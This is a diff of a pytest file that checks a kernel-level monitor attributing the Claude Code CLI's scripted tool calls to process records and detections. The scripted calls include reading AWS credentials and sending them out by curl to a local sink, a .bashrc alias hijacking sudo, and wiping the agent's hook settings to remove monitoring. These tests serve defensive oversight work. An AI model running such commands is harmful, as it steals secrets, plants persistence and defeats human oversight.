@@ -1,18 +1,24 @@
 """The REAL Claude Code CLI under `logira run`, driven offline by the scripted Messages API.
 
-Each test scripts the model's tool calls, runs `claude -p … --dangerously-skip-permissions` as the
-throwaway user through a real logirad, and checks on the stored run that what each tool call did is in
-the kernel record, inside the process subtree Claude started for that call (kernel_view.py finds it from
-the exec records alone), and that the CLI really ran the calls (the mock got every tool_result).
+Each test scripts the model's tool calls, installs logira's hooks the way a user does
+(`logira agent hooks install claude`; one test runs without), runs `claude -p … --dangerously-skip-permissions`
+as the throwaway user through a real logirad, and checks on the stored run:
+- the CLI really ran the calls (the mock got every tool_result);
+- what each call did is in the kernel record, inside the process subtree Claude started for that call
+  (kernel_view.py finds it from the exec records alone);
+- logira's join attributed every one of those records, and every detection on them, to that call
+  (attribution.py reads it through logira's read-side API), and the CLI commands show it.
 """
 
 from __future__ import annotations
 
 import json
+import os
 import shlex
 
 import pytest
 from agent_cli import claude_argv
+from attribution import Joined, kernel_records
 from kernel_view import (
     agent_pids,
     claude_call_shell,
@@ -53,9 +59,9 @@ def test_multi_step_benign_edit(agents):
         [ToolCall("Write", {"file_path": str(ws / "app.py"), "content": "print('hi')\n"})],
         [bash("cat notes.txt", "Read the note")],
     ]
-    r = agents.claude(ClaudeScript(steps))
+    r = agents.claude(ClaudeScript(steps), hooks=True)
     claude = assert_session_ran(r, calls=3)
-    write_call, read_call = steps[0][0], steps[2][0]
+    (write_call,), (edit_call,), (read_call,) = steps
     assert result_text(r.mock.results()[read_call.id]).strip() == "hello"
     assert (ws / "app.py").read_text() == "print('hi')\n"
 
@@ -75,6 +81,25 @@ def test_multi_step_benign_edit(agents):
     # Every tool-call shell really is a separate process: nothing of call 1 ran in call 3's tree.
     assert not subtree(r.run, shell1) & subtree(r.run, shell3)
 
+    # The join: the three declared calls, in order, each with every kernel record of its subtree.
+    j = Joined(r.run)
+    assert [(c.call_id, c.tool, c.command, c.file_path, c.status, c.source) for c in j.calls.values()] == [
+        (write_call.id, "Bash", "echo hello > notes.txt", "", "ok", "hook"),
+        (edit_call.id, "Write", "", str(ws / "app.py"), "ok", "hook"),
+        (read_call.id, "Bash", "cat notes.txt", "", "ok", "hook"),
+    ]
+    assert {c.agent_pid for c in j.calls.values()} == {claude}
+    j.assert_all_of(kernel_records(r.run, subtree(r.run, shell1)), write_call.id)
+    j.assert_all_of(kernel_records(r.run, subtree(r.run, shell3)), read_call.id)
+    j.assert_all_of(
+        [w for w in writes_to(r.run, ws / "app.py") if w["data_json"]["op"] == "rename"], edit_call.id
+    )
+    assert not j.findings("agent-declared-mismatch") and not j.findings("agent-hook-tampering")
+    # ... and `logira calls --json` says the same to the user
+    shown = json.loads(agents.logira_as_user("calls", r.run.id, "--json").stdout)
+    assert [c["call_id"] for c in shown["calls"]] == [write_call.id, edit_call.id, read_call.id]
+    assert [s["session_id"] for s in shown["sessions"]] == [j.calls[write_call.id].session_id]
+
 
 def test_credential_read_then_egress_to_a_local_server(agents):
     home = agents.home
@@ -86,7 +111,7 @@ def test_credential_read_then_egress_to_a_local_server(agents):
             f"curl -s --data-binary @$HOME/.aws/credentials http://127.0.0.1:{sink.port}/upload",
             "Upload them",
         )
-        r = agents.claude(ClaudeScript([[read], [send]]))
+        r = agents.claude(ClaudeScript([[read], [send]]), hooks=True)
         claude = assert_session_ran(r, calls=2)
         assert secret in sink.bodies()[0]  # the data really left through the tool call
     assert secret in result_text(r.mock.results()[read.id])  # and the model saw it
@@ -104,41 +129,76 @@ def test_credential_read_then_egress_to_a_local_server(agents):
     (conn,) = connects_to(r.run, sink.port)
     assert conn["pid"] in send_tree and conn["data_json"]["exe"] == "/usr/bin/curl"
 
+    # The join: each detection on a call's process names that call; the egress is call 2's.
+    j = Joined(r.run)
+    for d in detections(r.run, "cred-cloud-read"):
+        pid = related(r.run, d)["pid"]
+        if pid != claude:
+            want = read.id if pid in read_tree else send.id
+            # (a rule's detection is written live, before the join: the join's tool_call record
+            # lists its seq, like the seq of the event it is about)
+            assert (j.call_of(d), j.call_of(related(r.run, d))) == (want, want)
+            assert j.of[d["seq"]][1] in ("marker", "hook_window")
+    j.assert_all_of([conn], send.id)
+    j.assert_all_of(kernel_records(r.run, read_tree), read.id)
+    j.assert_all_of(kernel_records(r.run, send_tree), send.id)
+    assert set(j.calls[read.id].detections) == {"cred-cloud-read"}
+    # its destinations are the sink and what curl's name lookup asked (nscd): as many as the kernel saw
+    dests = {
+        (n["data_json"]["dst_ip"], n["data_json"]["dst_port"], n["data_json"]["unix_path"])
+        for n in kernel_records(r.run, send_tree)
+        if n["type"] == "net" and n["data_json"]["op"] == "connect"
+    }
+    assert ("127.0.0.1", sink.port, "") in dests and j.calls[send.id].destinations == len(dests)
+    # explain tells the user which call read the keys
+    explained = agents.logira_as_user("explain", r.run.id).stdout.decode()
+    assert f"tool call: {read.id} Bash `cat ~/.aws/credentials`" in explained
+
 
 def test_shell_rc_write(agents):
     home = agents.home
     call = bash("echo 'alias sudo=\"echo pwned\"' >> ~/.bashrc", "Add an alias")
-    r = agents.claude(ClaudeScript([[call]]))
+    r = agents.claude(ClaudeScript([[call]]), hooks=True)
     claude = assert_session_ran(r, calls=1)
     assert 'alias sudo="echo pwned"' in (home.path / ".bashrc").read_text()
     tree = subtree(r.run, claude_call_shell(r.run, claude, call.input["command"]))
     found = detections(r.run, "persist-shell-startup")
     assert found and {related(r.run, d)["pid"] for d in found} <= tree, describe(r.run)
     assert related(r.run, found[0])["data_json"]["path"] == str(home.path / ".bashrc")
+    # The join: the detection is the call's, and `query --tool-call` lists the rc write under it.
+    j = Joined(r.run)
+    assert [j.call_of(d) for d in found] == [call.id] and j.calls[call.id].detections == [
+        "persist-shell-startup"
+    ]
+    j.assert_all_of(kernel_records(r.run, tree), call.id)
+    listed = agents.logira_as_user("query", r.run.id, "--tool-call", call.id, "--json", "--all").stdout
+    seqs = {json.loads(line)["seq"] for line in listed.splitlines()}
+    assert related(r.run, found[0])["seq"] in seqs
+    assert seqs >= {x["seq"] for x in kernel_records(r.run, tree)}
 
 
 def test_background_process_outlives_its_tool_call(agents):
-    """A `run_in_background` Bash call returns at once; its process goes on and writes after the call
-    ended. The test releases it only once the NEXT call's tool_result came back (no sleeps): so the
-    late write is certainly after both calls ended."""
+    """A `run_in_background` Bash call returns at once; its shell goes on, blocked on a FIFO that the
+    mock opens only once the NEXT call's tool_result came back (no sleeps, no polling): so its write is
+    certainly after both calls ended, and logira must still give it to the background call."""
     ws = agents.workspace
-    go, late = ws / "go", ws / "late.txt"
-    bg = bash(
-        f"while [ ! -e {go} ]; do sleep 0.05; done; echo late > {late}",
-        "Wait, then write",
-        run_in_background=True,
-    )
+    fifo, late = ws / "release", ws / "late.txt"
+    os.mkfifo(fifo)
+    os.chown(fifo, agents.logira.user.uid, agents.logira.user.gid)
+    bg = bash(f"read _ < {fifo}; echo late > {late}", "Wait, then write", run_in_background=True)
     after = bash("echo after > after.txt", "Next step")
 
-    def release_when_call_ended(rec) -> None:
+    def release_when_call_2_ended(rec) -> None:
         body = rec.body if isinstance(rec.body, dict) else {}
-        if after.id in tool_results(body.get("messages") or []):
-            go.touch()
+        if after.id in tool_results(body.get("messages") or []) and not late.exists():
+            with open(fifo, "w") as f:  # the reader is there (bg blocks on it): this does not block
+                f.write("go\n")
 
-    r = agents.claude(ClaudeScript([[bg], [after]]), on_request=release_when_call_ended)
+    r = agents.claude(ClaudeScript([[bg], [after]]), hooks=True, on_request=release_when_call_2_ended)
     claude = assert_session_ran(r, calls=2)
     assert late.read_text() == "late\n"
-    bg_tree = subtree(r.run, claude_call_shell(r.run, claude, bg.input["command"]))
+    bg_shell = claude_call_shell(r.run, claude, bg.input["command"])
+    bg_tree = subtree(r.run, bg_shell)
     after_tree = subtree(r.run, claude_call_shell(r.run, claude, after.input["command"]))
     (late_write,) = files_at(r.run, late, "create")
     (after_write,) = files_at(r.run, ws / "after.txt", "create")
@@ -146,28 +206,51 @@ def test_background_process_outlives_its_tool_call(agents):
     assert late_write["pid"] in bg_tree and after_write["pid"] in after_tree
     assert after_write["seq"] < late_write["seq"], describe(r.run)
 
+    # The join: the late write is still the background call's, which is known to have left its
+    # shell running, and that is reported as activity after the call ended, naming the process.
+    j = Joined(r.run)
+    j.assert_all_of([late_write], bg.id)
+    j.assert_all_of([after_write], after.id)
+    assert j.calls[bg.id].end_ts < late_write["ts"]
+    assert bg_shell in j.calls[bg.id].left_running
+    late_findings = [
+        f
+        for f in j.findings("agent-undeclared-activity")
+        if f["data_json"]["tool_call_id"] == bg.id and f"pid {bg_shell} " in f["data_json"]["message"]
+    ]
+    assert late_findings, [f["summary"] for f in j.findings()]
+
 
 def test_edit_of_the_hook_config(agents):
-    """A tool call rewrites ~/.claude/settings.json, dropping the hooks that were configured."""
+    """A tool call rewrites ~/.claude/settings.json, removing the `logira hook` entries it was installed with."""
     home = agents.home
     call = bash("echo '{}' > ~/.claude/settings.json", "Reset settings")
-    r = agents.claude(ClaudeScript([[call]]), dump=True)
+    r = agents.claude(ClaudeScript([[call]]), hooks=True)
     claude = assert_session_ran(r, calls=1)
     settings = home.path / ".claude" / "settings.json"
     assert json.loads(settings.read_text()) == {}
-    # the hooks were live before the edit: PreToolUse of that very call fired
-    fired = [(h["hook_event_name"], h.get("tool_use_id", "")) for h in r.hooks_fired()]
-    assert ("PreToolUse", call.id) in fired
     tree = subtree(r.run, claude_call_shell(r.run, claude, call.input["command"]))
     writes = files_at(r.run, settings, "create", "modify", "truncate")
     assert writes and {w["pid"] for w in writes} <= tree, describe(r.run)
     found = detections(r.run, "persist-agent-config")
     assert found and {related(r.run, d)["pid"] for d in found} <= tree
 
+    # The join: the hooks were live (the call was declared by them), and the edit is flagged as hook
+    # tampering by that very call.
+    j = Joined(r.run)
+    assert j.calls[call.id].source == "hook"
+    j.assert_all_of(writes, call.id)
+    tamper = j.findings("agent-hook-tampering")
+    assert tamper and {t["data_json"]["tool_call_id"] for t in tamper} == {call.id}, [
+        t["summary"] for t in tamper
+    ]
+    assert {related(r.run, t)["pid"] for t in tamper} <= tree
+
 
 def test_two_sessions_in_one_run(agents):
     """One `logira run` whose command runs claude twice: two sessions, each call in its own claude's tree."""
     home = agents.home
+    agents.install_hooks("claude")
     a = ClaudeScript([[bash("echo a > a.txt", "Write a")]], key="[[session-a]]")
     b = ClaudeScript([[bash("echo b > b.txt", "Write b")]], key="[[session-b]]")
     with MockAnthropic() as mock:
@@ -180,17 +263,25 @@ def test_two_sessions_in_one_run(agents):
     assert set(mock.results()) >= {a.calls[0].id, b.calls[0].id}
     pids = agent_pids(run, "claude")
     assert len(pids) == 2, describe(run)
+    j = Joined(run)
+    sessions = set()
     for pid, s, name in zip(pids, (a, b), ("a.txt", "b.txt"), strict=True):
         tree = subtree(run, claude_call_shell(run, pid, s.calls[0].input["command"]))
         (created,) = files_at(run, agents.workspace / name, "create")
         assert created["pid"] in tree
-    # two sessions: two transcripts, one per session id
-    sessions = {p.stem for p in home.claude_transcripts()}
-    assert len(sessions) == 2
+        call = j.calls[s.calls[0].id]
+        assert call.agent_pid == pid  # each call joined to its own claude process
+        j.assert_all_of(kernel_records(run, tree), call.call_id)
+        sessions.add(call.session_id)
+    # two sessions: two transcripts, one per session id, and the join keeps them apart
+    assert sessions == {p.stem for p in home.claude_transcripts()} and len(sessions) == 2
+    shown = json.loads(agents.logira_as_user("calls", run.id, "--json").stdout)
+    assert sorted(x["session_id"] for x in shown["sessions"]) == sorted(sessions)
 
 
-def test_run_without_hooks_keeps_the_transcript(agents):
-    """No hooks configured: the agent's own session log is the only declaration of its tool calls."""
+def test_run_without_hooks_uses_the_transcript(agents):
+    """No hooks configured: the agent's own session log is the only declaration of its tool calls,
+    read at finalize; the call's processes are still joined to it."""
     call = bash("echo plain > plain.txt", "Write plain")
     r = agents.claude(ClaudeScript([[call]]))
     claude = assert_session_ran(r, calls=1)
@@ -208,3 +299,16 @@ def test_run_without_hooks_keeps_the_transcript(agents):
     tree = subtree(r.run, claude_call_shell(r.run, claude, call.input["command"]))
     (created,) = files_at(r.run, agents.workspace / "plain.txt", "create")
     assert created["pid"] in tree
+
+    j = Joined(r.run)
+    assert j.summary.get("hook_messages", 0) == 0 and j.summary["transcript_calls"] == 1
+    assert j.summary.get("transcript_parse_errors", 0) == 0
+    c = j.calls[call.id]
+    assert (c.source, c.tool, c.command, c.status, c.agent_pid) == (
+        "transcript",
+        "Bash",
+        call.input["command"],
+        "ok",
+        claude,
+    )
+    j.assert_all_of(kernel_records(r.run, tree), call.id)
